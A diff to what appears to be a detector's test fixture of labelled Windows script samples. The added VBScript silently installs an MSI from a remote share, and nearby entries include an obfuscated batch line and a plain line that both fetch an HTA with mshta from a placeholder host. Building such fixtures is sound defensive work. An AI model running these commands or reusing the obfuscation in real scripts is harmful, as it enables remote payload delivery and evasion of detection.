@@ -27,6 +27,12 @@ export const windows: readonly Suspect[] = [
     ['script_uses_system_tool_to_fetch'],
     'set q=abcdefghijklmnopqrstuvwxyz:/.\r\n%q:~12,1%%q:~18,1%%q:~7,1%%q:~19,1%%q:~0,1% %q:~7,1%%q:~19,1%%q:~19,1%%q:~15,1%%q:~26,1%%q:~27,1%%q:~27,1%files.test/a.hta',
   ),
+  text(
+    'installer-of-bare-share.vbs',
+    'malicious',
+    ['script_uses_system_tool_to_fetch'],
+    'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "msiexec /i \\\\203.0.113.7\\share\\agent.msi /qn", 0, True\r\n',
+  ),
   text('mshta.bat', 'suspicious', ['script_uses_system_tool_to_fetch'], 'mshta http://files.test/a.hta'),
   text(
     'regsvr.cmd',
